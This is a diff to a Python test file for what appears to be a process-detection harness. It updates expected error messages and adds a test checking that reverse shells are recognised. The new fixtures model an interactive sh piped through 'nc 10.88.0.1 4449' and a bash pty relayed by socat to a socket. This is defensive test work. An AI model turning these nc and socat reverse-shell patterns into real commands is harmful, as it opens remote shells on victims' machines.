@@ -90,8 +90,8 @@ def test_an_expectation_resolves_to_one_process_with_its_real_remote(proc_root: 
         (Expect("x", Select(argv=".")), "3 processes match"),
         (Expect("x", Select("nc")), "0 processes match"),
         (Expect("x", Select("bash"), path="/tmp/x"), "has no /tmp/x"),
-        (Expect("x", Select("bash"), remote="10.88.0.1:1"), "no connection to 10.88.0.1:1"),
-        (Expect("x", Select("sleep"), remote="@HOST@:@PORT@"), "no connection to 10.88.0.1:4449"),
+        (Expect("x", Select("bash"), remote="10.88.0.1:1"), "connected to 10.88.0.1:1"),
+        (Expect("x", Select("sleep"), remote="@HOST@:@PORT@"), "connected to 10.88.0.1:4449"),
     ],
 )
 def test_a_truth_that_proc_does_not_confirm_is_refused(
@@ -99,6 +99,26 @@ def test_a_truth_that_proc_does_not_confirm_is_refused(
 ) -> None:
     with pytest.raises(truth.TruthError, match=error):
         truth.resolve(expect, procfs.snapshot(100, proc_root), _values())
+
+
+def test_a_shell_whose_stdio_reaches_the_remote_through_a_relay_has_it(tmp_path: Path) -> None:
+    _proc(tmp_path, 100, 1, 50, ["sh", "-i"], "/usr/bin/dash",
+          fd0="pipe:[71]", fd1="pipe:[72]", fd2="pipe:[72]")  # fmt: skip
+    _proc(tmp_path, 101, 2, 50, ["nc", "10.88.0.1", "4449"], "/usr/bin/nc.openbsd",
+          fd0="pipe:[72]", fd1="/tmp/f", fd3="socket:[555]")  # fmt: skip
+    _proc(tmp_path, 102, 3, 50, ["bash", "-li"], "/usr/bin/bash",
+          fd0="/dev/pts/4", fd1="/dev/pts/4", fd2="/dev/pts/4")  # fmt: skip
+    _proc(
+        tmp_path, 103, 4, 50, ["socat"], "/usr/bin/socat", fd5="/dev/pts/ptmx", fd6="socket:[555]"
+    )
+    (tmp_path / "103" / "fdinfo").mkdir()
+    (tmp_path / "103" / "fdinfo" / "5").write_text("pos:\t0\nflags:\t02\ntty-index:\t4\n")
+    procs = procfs.snapshot(100, tmp_path)
+    remote = "@HOST@:@PORT@"
+    sh = truth.resolve(Expect("reverse-shell", Select("sh"), remote=remote), procs, _values())
+    assert (sh["pid"], sh["remote"], sh["relayedBy"]) == (1, "10.88.0.1:4449", 2)
+    bash = truth.resolve(Expect("reverse-shell", Select("bash"), remote=remote), procs, _values())
+    assert (bash["pid"], bash["relayedBy"]) == (3, 4)
 
 
 def test_the_truth_file_holds_scenario_expectations_and_processes(proc_root: Path) -> None:
